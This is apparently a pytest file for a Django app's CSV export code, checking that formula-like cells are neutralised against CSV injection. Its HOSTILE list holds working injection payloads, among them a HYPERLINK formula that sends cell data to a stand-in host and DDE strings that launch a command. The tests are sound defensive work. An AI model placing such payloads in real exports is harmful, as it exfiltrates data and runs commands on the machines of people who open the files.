"""Every CSV export goes through ``accounts.exports``: UTF-8 with a BOM, text
that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab,
carriage return first) prefixed with ``'`` (OWASP "CSV Injection"), numbers
written as numbers.  The audience export is tried with a hostile member name
here; the leads report export in ``tests/leads/test_selectors_reports.py``."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from accounts.exports import BOM, csv_cell, csv_lines, csv_response
from accounts.models import AuditLog

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&C2,"点我领券")',
    "+86-138",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response) -> tuple[str, list[list[str]]]:
    """The downloaded file: its text (BOM included) and its rows as Excel would split them."""
    text = response.getvalue().decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_is_prefixed_with_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["李娜", "138****5678", "S01", "a=b", " =1+1", "", "12.5%", "＝1+1"])
def test_ordinary_text_is_unchanged(text):
    assert csv_cell(text) == text


def test_numbers_stay_numbers_negative_ones_included():
    """An amount is written as the number it is (``-120.50`` stays readable
    and summable in Excel); the same characters as text are neutralised."""
    assert csv_cell(Decimal("-120.50")) == Decimal("-120.50")
    assert csv_cell(-3) == -3
    assert csv_cell(0.5) == 0.5
    assert csv_cell("-120.50") == "'-120.50"
    assert csv_cell(None) == ""
    line = list(csv_lines([[Decimal("-120.50"), -3, "-120.50", "李娜", None]]))[1]
    assert line == '-120.50,-3,"\'-120.50","李娜",""\r\n'


def test_the_file_starts_with_a_bom_and_quotes_text():
    lines = list(csv_lines([["姓名", "积分"], ['有,逗号"和引号', 10]]))
    assert lines[0] == BOM
    assert "".join(lines[1:]) == '"姓名","积分"\r\n"有,逗号""和引号",10\r\n'


def test_the_response_streams_utf8_with_bom_as_an_attachment():
    response = csv_response(iter([["姓名"], ["=1+1"]]), filename="名单.csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;") and "filename*=utf-8''" in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store"
    raw = response.getvalue()
    assert raw.startswith(BOM.encode("utf-8"))
    assert raw.decode("utf-8") == BOM + '"姓名"\r\n"\'=1+1"\r\n'


def test_rows_made_while_streaming_use_the_language_of_the_request():
    def rows():
        yield [translation.gettext("是")]

    with translation.override("en"):
        response = csv_response(rows(), filename="x.csv")
    with translation.override("zh-hans"):
        assert read_csv(response)[1] == [["Yes"]]


@pytest.mark.django_db
def test_audience_export_neutralises_hostile_names(client, make_member, store_a, manager_a):
    members = [make_member(store_a, name=name) for name in HOSTILE]
    plain = make_member(store_a, name="李娜")
    client.force_login(manager_a)
    response = client.get(reverse("portal:membership:audience-export"), {"store": store_a.pk})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    text, rows = read_csv(response)
    assert text.startswith(BOM)
    names = {int(row[0]): row[1] for row in rows[1:]}
    assert names == {**{m.pk: "'" + m.name for m in members}, plain.pk: "李娜"}
    # The member id is a number, not text: written bare.
    assert f"\r\n{plain.pk}," in text
    entry = AuditLog.objects.get(action="membership.audience.exported")
    assert entry.actor == manager_a and entry.data["rows"] == len(HOSTILE) + 1
